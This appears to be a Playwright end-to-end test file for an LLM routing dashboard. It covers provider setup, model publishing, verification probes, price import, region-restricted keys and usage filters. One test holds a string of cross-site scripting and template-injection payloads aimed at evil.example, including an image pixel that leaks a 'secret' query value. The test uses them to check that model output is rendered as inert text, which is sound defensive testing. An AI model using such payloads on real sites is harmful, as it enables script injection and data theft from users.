// What an operator does in the dashboard: connects a provider, publishes a model of it, probes it; and how a key's routing is set.
import assert from 'node:assert/strict'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import type { Page } from 'playwright-core'
import { type FaultProvider, startFaultProvider } from '../../test/faults/fault-provider.ts'
import { paths } from '../paths.ts'
import { type Dashboard, looks, openDashboard, shotsFolder, signIn, violationsOf, watchFaults } from './open-dashboard.ts'

let dashboard: Dashboard
let acme: FaultProvider
let page: Page
let faults: readonly string[]

before(async () => {
  acme = await startFaultProvider()
  dashboard = await openDashboard()
  page = await (await dashboard.newContext({ reducedMotion: 'reduce' })).newPage()
  faults = watchFaults(page)
  await signIn(page, dashboard.router.setupUrl)
})
after(async () => {
  await acme.close()
  await dashboard[Symbol.asyncDispose]()
})

/** As it is on the screen, for axe and for who looks at the artefacts. */
async function keepPicture(name: string): Promise<void> {
  for (const { width, colorScheme } of looks) {
    await page.setViewportSize({ width, height: width > 800 ? 900 : 844 })
    await page.emulateMedia({ colorScheme })
    assert.deepEqual(await violationsOf(page), [], `${name} ${colorScheme} ${width}`)
    await page.screenshot({ path: join(shotsFolder, `${name}-${colorScheme}-${width}.png`) })
  }
  await page.setViewportSize({ width: 1360, height: 900 })
}

test('a provider is connected with two credentials, each with its weight; what is wrong is said at its field', async () => {
  await page.getByRole('link', { name: 'Providers' }).click()
  await page.getByRole('button', { name: 'Connect a provider' }).first().click()
  const dialog = page.getByRole('dialog', { name: 'Connect a provider' })
  await dialog.getByRole('combobox', { name: 'Vendor' }).click()
  await page.getByRole('option', { name: 'Another compatible server' }).click()
  await dialog.getByLabel('ID').fill('Acme!')
  await dialog.getByLabel('Base URL').fill(acme.baseUrl)
  await dialog.getByLabel('It is at a private or loopback address').check()
  await dialog.getByLabel('Credential', { exact: true }).fill('sk-acme-first-0123456789')
  await dialog.getByRole('button', { name: 'Another credential' }).click()
  await dialog.getByLabel('Weight of the first').fill('3')
  await dialog.getByLabel('Name of credential 2').fill('team-b')
  await dialog.getByLabel('Credential 2', { exact: true }).fill('sk-acme-second-0123456789')
  await dialog.getByRole('button', { name: 'Connect', exact: true }).click()
  await dialog
    .getByRole('alert')
    .getByText(/lower-case letters/)
    .waitFor()
  await keepPicture('connect-provider')
  await dialog.getByLabel('ID').fill('acme')
  await dialog.getByRole('button', { name: 'Connect', exact: true }).click()
  await page.getByRole('heading', { name: 'acme' }).waitFor()
  await page.getByRole('combobox', { name: 'Weight of default' }).getByText('Weight 3').waitFor()
  await page.getByRole('combobox', { name: 'Weight of team-b' }).click()
  await page.getByRole('option', { name: 'Weight 5' }).click()
  await page.getByRole('combobox', { name: 'Weight of team-b' }).getByText('Weight 5').waitFor()
  await page.getByRole('button', { name: 'Test', exact: true }).click()
  await page
    .getByRole('status')
    .getByText(/HTTP 200/)
    .waitFor()
})

test('a model is published by picking it from what the provider serves, and a key can call it', async () => {
  await page.getByRole('link', { name: 'Models & prices' }).click()
  await page.getByRole('button', { name: 'Publish a model' }).click()
  const dialog = page.getByRole('dialog', { name: 'Publish a model' })
  await dialog.getByRole('button', { name: 'Publish', exact: true }).click()
  await dialog.getByRole('alert').getByText('Choose a model of the provider').waitFor()
  await dialog.getByRole('button', { name: 'scripted' }).click()
  await dialog.getByLabel('ID', { exact: true }).fill('acme-one')
  await dialog.getByLabel('Context in tokens').fill('8192')
  await dialog.getByLabel('Longest answer in tokens').fill('9000')
  await dialog.getByLabel('Input', { exact: true }).fill('0.14')
  await dialog.getByRole('button', { name: 'Publish', exact: true }).click()
  await dialog.getByText('An answer cannot be longer than the context.').waitFor()
  await dialog.getByText('Needed for a price.').waitFor()
  await dialog.getByLabel('Longest answer in tokens').fill('1024')
  await dialog.getByLabel('Output', { exact: true }).fill('0.28')
  await keepPicture('publish-model')
  await dialog.getByRole('button', { name: 'Publish', exact: true }).click()
  await page.getByText('acme-one can be called').waitFor()
  await page.getByRole('row').filter({ hasText: 'acme-one' }).getByText('$0.28').waitFor()
  const answer = await dashboard.router.chat({ model: 'acme-one', messages: [{ role: 'user', content: 'Hello' }] })
  assert.equal(answer.status, 200)
})

test('a provider is probed by a click, and says what passed and what it cost', async () => {
  await page.getByRole('link', { name: 'Providers' }).click()
  await page.getByRole('button', { name: 'Verify' }).click()
  const found = page.getByRole('region', { name: 'Verification' })
  await found.getByText(/\d+ of 11 passed/).waitFor()
  await found.getByText('acme/scripted').click()
  await found.getByText('buffered', { exact: true }).waitFor()
  await keepPicture('verification')
})

test('one model is probed by a click on its page, and its page says what it can', async () => {
  await page.goto(`${dashboard.url}${paths.modelOf('acme-one')}`)
  const started = page.waitForResponse((answer) => answer.request().method() === 'POST' && answer.url().endsWith('/verifications'))
  await page.getByRole('button', { name: 'Verify' }).click()
  assert.ok((await started).ok())
  const found = page.getByRole('region', { name: 'Verification' })
  await found.getByText(/^\s*Probes cost/).waitFor()
  await found.getByText(/\d+ of 11 passed/).waitFor()
})

test('W8: what a model, a tool call and a provider’s error say is text: nothing of it runs, loads, links or leads away', async () => {
  const hostile = [
    '<img src="https://evil.example/pixel.png" onerror="window.owned=1">',
    '<script>window.owned=1</script><svg onload="window.owned=1"></svg><iframe src="https://evil.example/"></iframe>',
    '![pixel](https://evil.example/pixel.png?q=secret) [click](javascript:window.owned=1) <a href="https://evil.example/">free</a>',
    '{{constructor.constructor("window.owned=1")()}} \u202e\u0000<style>*{background:url(https://evil.example/)}</style>',
  ].join('\n')
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  const askThere = async (): Promise<void> => {
    await page.getByLabel('Your message').fill(hostile)
    await page.getByRole('button', { name: 'Send' }).click()
  }
  acme.script('scripted', { then: { kind: 'answer', text: hostile, ignoresCap: true } })
  await page.getByRole('link', { name: 'Playground' }).click()
  await page.getByRole('combobox', { name: 'Model of column 1' }).click()
  await page.getByRole('option', { name: 'acme-one' }).click()
  await askThere()
  await page.getByRole('link', { name: 'log', exact: true }).waitFor()
  acme.script('scripted', { then: { kind: 'answer', toolCalls: [{ name: 'look', arguments: JSON.stringify({ at: hostile }) }] } })
  await askThere()
  await page.getByRole('link', { name: 'log', exact: true }).nth(1).waitFor()
  acme.script('scripted', { then: { kind: 'status', code: 400, body: { error: { message: hostile, type: hostile, code: hostile } } } })
  await askThere()
  await page.getByRole('main').getByRole('alert').waitFor()
  const main = page.getByRole('main')
  assert.ok(
    (await main.innerText()).includes('<img src="https://evil.example/pixel.png" onerror="window.owned=1">'),
    'shown as it was said',
  )
  assert.equal(await main.locator('img, iframe, svg[onload], script, style, a[href*="evil"], a[href^="javascript"]').count(), 0)
  await page.getByRole('link', { name: 'log', exact: true }).first().click()
  await page.getByRole('dialog').getByText('acme-one').first().waitFor()
  assert.equal(await page.evaluate('window.owned'), undefined)
  const elsewhere = asked.filter((url) => !url.startsWith(dashboard.url) && !url.startsWith('data:'))
  assert.deepEqual(elsewhere, [])
  await page.keyboard.press('Escape')
  acme.script('scripted', { then: { kind: 'answer' } })
})

test('a price list is compared, its jump left out, and what is ticked is published', async () => {
  const list = { 'acme/scripted': { litellm_provider: 'acme', input_cost_per_token: 1.5e-7, output_cost_per_token: 2.8e-7 } }
  const upload = (text: string): Promise<void> =>
    page.getByLabel('File of the list').setInputFiles({ name: 'prices.json', mimeType: 'application/json', buffer: Buffer.from(text) })
  await page.getByRole('link', { name: 'Models & prices' }).click()
  await page.getByRole('link', { name: 'Import a price list' }).click()
  await page.getByRole('button', { name: 'Compare' }).click()
  await page.getByRole('alert').getByText('Choose the file of the list.').waitFor()
  await upload('[]')
  await page.getByRole('button', { name: 'Compare' }).click()
  await page
    .getByRole('alert')
    .getByText(/no price in the form of litellm/)
    .waitFor()
  await upload(JSON.stringify({ 'acme/scripted': { ...list['acme/scripted'], output_cost_per_token: 2.8e-5 } }))
  await page.getByRole('button', { name: 'Compare' }).click()
  const changes = page.getByRole('list', { name: 'Changes' })
  await changes.getByText(/is it meant/).waitFor()
  assert.equal(await changes.getByRole('checkbox').isChecked(), false)
  assert.equal(await page.getByRole('button', { name: 'Publish 0 prices' }).isDisabled(), true)
  await upload(JSON.stringify(list))
  await page.getByRole('button', { name: 'Compare' }).click()
  await changes.getByText('0.15').waitFor()
  await keepPicture('price-difference')
  await page.getByRole('button', { name: 'Publish 1 price' }).click()
  await page.getByText('1 price published').waitFor()
  await page.getByRole('row').filter({ hasText: 'acme-one' }).getByText('$0.15').waitFor()
})

test('where the requests of a key may go is set in its form, shown beside its name and held to', async () => {
  await page.getByRole('link', { name: 'API Keys' }).click()
  await page.getByRole('button', { name: 'Create key' }).click()
  const dialog = page.getByRole('dialog')
  await dialog.getByLabel('Name').fill('eu-only')
  await dialog.getByText(/^Routing/).click()
  await dialog.getByLabel('Only in these regions').fill('Europe')
  await dialog.getByRole('button', { name: 'Create key' }).click()
  await dialog.getByText('“Europe” is no region').waitFor()
  await dialog.getByLabel('Only in these regions').fill('eu')
  await keepPicture('key-routing')
  await dialog.getByRole('button', { name: 'Create key' }).click()
  const key = await page.getByLabel('The new key').innerText()
  await page.getByRole('button', { name: 'I have copied it' }).click()
  await page.getByRole('row').filter({ hasText: 'eu-only' }).getByText('eu', { exact: true }).waitFor()
  const refused = await dashboard.router.chat({ model: 'acme-one', messages: [{ role: 'user', content: 'Hello' }] }, { key })
  assert.notEqual(refused.status, 200)
  assert.match(await refused.text(), /region/)
  await page.getByRole('button', { name: 'Actions for eu-only' }).click()
  await page.getByRole('menuitem', { name: 'Edit' }).click()
  await page.getByRole('dialog').getByLabel('Only in these regions').fill('')
  assert.equal(await page.getByRole('dialog').getByLabel('Only in these regions').isVisible(), true, 'it does not close while one types')
  await page.getByRole('button', { name: 'Save' }).click()
  await page.getByText('“eu-only” was changed').waitFor()
  assert.equal((await dashboard.router.chat({ model: 'acme-one', messages: [{ role: 'user', content: 'Hello' }] }, { key })).status, 200)
})

test('requests are found by the member whose key made them', async () => {
  const { managementKey, port } = dashboard.router
  const control = async <Answer>(path: string, body?: object): Promise<Answer> => {
    const method = body === undefined ? 'GET' : 'POST'
    const headers = { authorization: `Bearer ${managementKey}`, 'content-type': 'application/json' }
    const answer = await fetch(`http://127.0.0.1:${port}/control/v1${path}`, {
      method,
      headers,
      ...(body && { body: JSON.stringify(body) }),
    })
    return (await answer.json()) as Answer
  }
  const { data: members } = await control<{ data: { id: string; name: string; email: string }[] }>('/members')
  const [member] = members
  const { key } = await control<{ key: string }>('/keys', { name: 'hers', member_id: member?.id })
  await (await dashboard.router.chat({ model: 'acme-one', messages: [{ role: 'user', content: 'Hello' }] }, { key })).text()
  await page.goto(dashboard.url + paths.usage)
  await page.getByRole('row').filter({ hasText: 'hers' }).waitFor()
  await page.getByRole('button', { name: 'Filter', exact: true }).click()
  await page.getByRole('button', { name: 'Member', exact: true }).click()
  await page.getByRole('list', { name: 'Member' }).getByRole('button').first().click()
  await page
    .getByRole('group', { name: 'Filters' })
    .getByText(member?.name || member?.email || '')
    .waitFor()
  await page.getByRole('row').filter({ hasText: 'eu-only' }).first().waitFor({ state: 'detached' })
  // Exactly one: a second row would be refused as ambiguous.
  await page.getByRole('row').filter({ hasText: 'hers' }).waitFor()
  assert.equal(new URL(page.url()).searchParams.get('member_id'), member?.id)
})

test('System says what runs, what waits and which versions these are', async () => {
  await page.getByRole('link', { name: 'System' }).click()
  await page.getByRole('heading', { name: 'Running and waiting' }).waitFor()
  await page.getByText(/^0 of [\d,]+ places$/).waitFor()
  await page.getByText('all written').waitFor()
  await page.getByText(/on Node \d+/).waitFor()
  await keepPicture('system-load')
})

test('no script failed and the content policy blocked nothing on the way', () => assert.deepEqual(faults, []))
